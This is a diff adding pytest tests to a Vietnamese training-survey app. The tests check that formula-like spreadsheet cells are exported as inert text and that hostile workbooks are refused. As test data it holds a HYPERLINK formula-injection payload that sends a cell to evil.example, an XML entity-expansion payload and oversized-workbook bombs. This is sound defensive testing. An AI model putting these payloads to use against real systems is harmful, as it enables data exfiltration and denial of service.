@@ -304,3 +304,131 @@ def test_roster_import_adds_people_all_or_nothing(db, client, login_as, create_t
     page = response.get_data(as_text=True)
     assert response.status_code == 200 and "chưa có họ tên" in page and "giới tính ghi F" in page
     assert db.session.scalar(sa.select(sa.func.count(Participant.id))) == 3
+
+
+ATTACK = '=HYPERLINK("http://evil.example/?"&B2,"Bấm để xem")'
+
+
+def test_formula_like_texts_are_exported_as_text(db, trainer, units, create_topic):
+    """A name, venue or question text typed as a formula comes out as inert text, and imports back."""
+    create_topic("+Lừa đảo")
+    book = sheets(training=[["title", "@SUM(1+1)"], ["topic", "+Lừa đảo"], ["start_date", "2025-10-05"],
+                            ["venue", "-2+3"]])
+    book["participants"][1][1] = ATTACK
+    book["questions"][1][1] = "+Có nên cho mã OTP?"
+    from app.xlsx import append_row
+
+    typed = Workbook()
+    typed.remove(typed.active)
+    for name, rows in book.items():
+        ws = typed.create_sheet(name)
+        for row in rows:
+            append_row(ws, row)  # as typed in Excel with a leading quote
+    data = io.BytesIO()
+    typed.save(data)
+    training = services.import_workbook(data.getvalue(), user=trainer, unit=units["02086"])
+    db.session.commit()
+    exported = services.export_workbook(training, user=trainer)
+    wb = load_workbook(io.BytesIO(exported))
+    cells = {c.value: c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
+    for text in (ATTACK, "@SUM(1+1)", "+Lừa đảo", "-2+3", "+Có nên cho mã OTP?"):
+        assert cells[text].data_type == "s" and cells[text].quotePrefix, text
+    assert not [c for c in cells.values() if c.data_type == "f"]
+    again = services.import_workbook(exported, user=trainer, unit=units["02086"])
+    assert ATTACK in {p.person.full_name for p in again.participants}
+
+
+def test_append_row_keeps_every_formula_start_as_text():
+    from app.xlsx import append_row
+
+    wb = Workbook()
+    append_row(wb.active, ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "bình thường", 5, None])
+    assert [c.data_type for c in wb.active[1]] == ["s"] * 7 + ["n", "n"]
+    out = io.BytesIO()
+    wb.save(out)
+    assert [c.data_type for c in load_workbook(io.BytesIO(out.getvalue())).active[1]][:6] == ["s"] * 6
+
+
+# --- hostile workbooks: refused with a clear message, fast and in little memory ---------------
+
+def with_part(data: bytes, name: str, content: bytes) -> bytes:
+    """The workbook ``data`` with one zip part replaced (or added)."""
+    import zipfile
+
+    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
+        for item in source.infolist():
+            if item.filename != name:
+                target.writestr(item, source.read(item))
+        target.writestr(name, content)
+    return out.getvalue()
+
+
+SHEET = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+         b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>%s</sheetData>'
+         b'</worksheet>')
+ENTITY = (b'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa">'
+          b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
+          b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
+          b'<row r="1"><c r="A1" t="inlineStr"><is><t>title &b;</t></is></c></row></sheetData></worksheet>')
+
+
+def hostile(kind: str) -> bytes:
+    valid = xlsx(sheets())
+    if kind == "rows":
+        rows = b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (i, i) for i in range(1, 100_001))
+        return with_part(valid, "xl/worksheets/sheet1.xml", SHEET % rows)
+    if kind == "cells":
+        cells = b"".join(b'<c r="%s1"><v>1</v></c>' % get_letter(i).encode() for i in range(1, 16_001))
+        rows = b"".join(b'<row r="%d">%s</row>' % (i, cells.replace(b'1"><v>', b'%d"><v>' % i)) for i in range(1, 21))
+        return with_part(valid, "xl/worksheets/sheet1.xml", SHEET % rows)
+    if kind == "unpacked":
+        return with_part(valid, "xl/media/padding.bin", b"\0" * (11 * 1024 * 1024))
+    if kind == "entity":
+        return with_part(valid, "xl/worksheets/sheet1.xml", ENTITY)
+    if kind == "entity-utf16":
+        return with_part(valid, "xl/worksheets/sheet1.xml", ENTITY.replace(b"UTF-8", b"UTF-16").decode().encode("utf-16"))
+    raise AssertionError(kind)
+
+
+def get_letter(i: int) -> str:
+    from openpyxl.utils import get_column_letter
+
+    return get_column_letter(i)
+
+
+@pytest.mark.parametrize("kind, message", [
+    ("rows", "Một trang có quá 4100 dòng."),
+    ("cells", "Tệp có quá 300000 ô dữ liệu."),
+    ("unpacked", "Tệp quá lớn khi giải nén (hơn 10 MB)."),
+    ("entity", "Tệp chứa khai báo DTD hoặc thực thể XML, không được nhận."),
+    ("entity-utf16", "Tệp chứa khai báo DTD hoặc thực thể XML, không được nhận."),
+])
+def test_hostile_workbook_is_refused_fast_in_little_memory(db, trainer, units, kind, message):
+    import time
+    import tracemalloc
+
+    data = hostile(kind)
+    assert len(data) < 1_000_000  # small uploads, far under the 20 MB limit
+    before = counts()
+    started = time.perf_counter()
+    with pytest.raises(WorkbookError) as refused:
+        services.import_workbook(data, user=trainer, unit=units["02086"])
+    elapsed = time.perf_counter() - started
+    assert message in refused.value.message and elapsed < 1.0, elapsed
+    tracemalloc.start()  # measured apart: tracing slows every allocation
+    with pytest.raises(WorkbookError):
+        services.import_workbook(data, user=trainer, unit=units["02086"])
+    peak = tracemalloc.get_traced_memory()[1]
+    tracemalloc.stop()
+    assert peak < 50 * 1024 * 1024, peak
+    db.session.rollback()
+    assert counts() == before
+
+
+def test_hostile_workbook_upload_answers_a_vietnamese_page(db, client, login_as, create_topic, units):
+    login_as(Role.trainer, "02086")
+    page = client.post("/surveys/trainings/import", content_type="multipart/form-data",
+                       data={"unit_id": units["02086"].id, "file": (io.BytesIO(hostile("entity")), "lop.xlsx")})
+    assert page.status_code in (200, 400)
+    assert "Tệp chứa khai báo DTD hoặc thực thể XML" in page.get_data(as_text=True)
